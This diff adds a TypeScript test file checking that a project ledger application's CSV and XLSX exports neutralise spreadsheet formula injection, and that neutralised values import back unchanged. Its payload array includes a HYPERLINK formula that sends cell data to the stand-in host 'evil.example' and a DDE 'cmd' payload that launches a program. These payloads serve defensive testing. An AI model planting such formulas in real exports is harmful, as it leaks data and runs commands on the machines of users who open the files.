@@ -1,0 +1,105 @@
+import ExcelJS from 'exceljs';
+import { describe, expect, it } from 'vitest';
+import { ledgerCsv, ledgerLines, ledgerXlsx } from '../../server/services/ledger/export';
+import { preview } from '../../server/services/ledger/preview';
+import { importReportCsv } from '../../server/services/ledger/report-csv';
+import { getUpload } from '../../server/services/ledger/uploads';
+import { parseCsv } from '../../shared/domain/ledger/csv';
+import { callerFor } from '../helpers/caller';
+import { createTestDb } from '../helpers/db';
+import { makeProject, makeUser } from '../helpers/factories';
+import { officeLedger, uploadLedger } from '../helpers/ledger-sheet';
+import { NOW, TODAY } from '../helpers/time';
+
+/** What Excel would run as a formula (OWASP CSV injection): text starting with = + - @ tab or CR. */
+const LIVE = /^[=+\-@\t\r]/;
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
+  '+SUM(1,2)',
+  "-2+3+cmd|' /C calc'!A0",
+  '@SUM(1)',
+  '\tTAB开头',
+  '\r回车开头',
+];
+
+async function xlsxTexts(bytes: Buffer): Promise<{ texts: string[]; numbers: number[] }> {
+  const wb = new ExcelJS.Workbook();
+  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
+  const texts: string[] = [];
+  const numbers: number[] = [];
+  wb.eachSheet((ws) =>
+    ws.eachRow((row) =>
+      row.eachCell((cell) => {
+        if (typeof cell.value === 'string') texts.push(cell.value);
+        if (typeof cell.value === 'number') numbers.push(cell.value);
+      }),
+    ),
+  );
+  return { texts, numbers };
+}
+
+function expectNeutralised(texts: string[]) {
+  expect(texts.filter((t) => LIVE.test(t))).toEqual([]);
+  expect(texts).toContain(`'${HOSTILE[0]}`);
+}
+
+describe('no export carries a live formula (issue 11)', () => {
+  const db = createTestDb();
+  const admin = makeUser(db, { role: 'admin' });
+  const api = callerFor(db, admin);
+  HOSTILE.forEach((name, i) =>
+    makeProject(db, {
+      name,
+      investor: i === 0 ? '@投资方' : `投资方${i}`,
+      estimatedInvestment: 6000 + i,
+      stage: 'introduced',
+      by: admin,
+    }),
+  );
+
+  it('the ledger CSV: text neutralised, amounts still numbers', () => {
+    const rows = parseCsv(ledgerCsv(ledgerLines(db, { scope: 'all' }, NOW)));
+    expectNeutralised(rows.flat());
+    expect(rows.flat()).toContain("'@投资方");
+    const amountCol = rows[0]!.indexOf('总投资(万元)');
+    expect(rows.slice(1).map((r) => r[amountCol])).toEqual(expect.arrayContaining(['6000', '6001', '6005']));
+  });
+
+  it('the ledger xlsx: text neutralised, amounts still numbers', async () => {
+    const file = await ledgerXlsx(ledgerLines(db, { scope: 'all' }, NOW), { today: TODAY, filtered: false });
+    const { texts, numbers } = await xlsxTexts(file);
+    expectNeutralised(texts);
+    expect(numbers).toEqual(expect.arrayContaining([6000, 6001, 6005]));
+  });
+
+  it('the weekly review xlsx', async () => {
+    const file = await api.review.exportXlsx({ week: '2026-W48' });
+    expectNeutralised((await xlsxTexts(Buffer.from(file.base64, 'base64'))).texts);
+  });
+
+  it('the major projects (挂图作战) xlsx', async () => {
+    const file = await api.schedules.exportOverview({});
+    const { texts, numbers } = await xlsxTexts(Buffer.from(file.base64, 'base64'));
+    expectNeutralised(texts);
+    expect(numbers).toContain(6000);
+  });
+
+  it('the import report CSV, and the neutralised ledger imports back to the original names', async () => {
+    const bytes = await officeLedger({
+      headers: ['项目名称', '投资方', '行业', '招商方式', '总投资（万元）', '招商责任人'],
+      rows: [[`'${HOSTILE[0]}`, '@投资方', '数字', '楼宇招商', 7000, admin.displayName]],
+    });
+    const token = await uploadLedger(admin.id, bytes);
+    const upload = getUpload(token, admin.id, NOW);
+    preview(
+      db,
+      upload,
+      { token, sheet: 0, view: 'all', offset: 0, limit: 50, onExisting: 'skip', createUnits: false },
+      NOW,
+    );
+    const rows = parseCsv(importReportCsv(upload) ?? '');
+    expectNeutralised(rows.flat());
+    // The quote the export put in front is taken off again: the line matches the existing project.
+    expect(upload.report?.rows[0]).toMatchObject({ name: HOSTILE[0], investor: '@投资方' });
+  });
+});
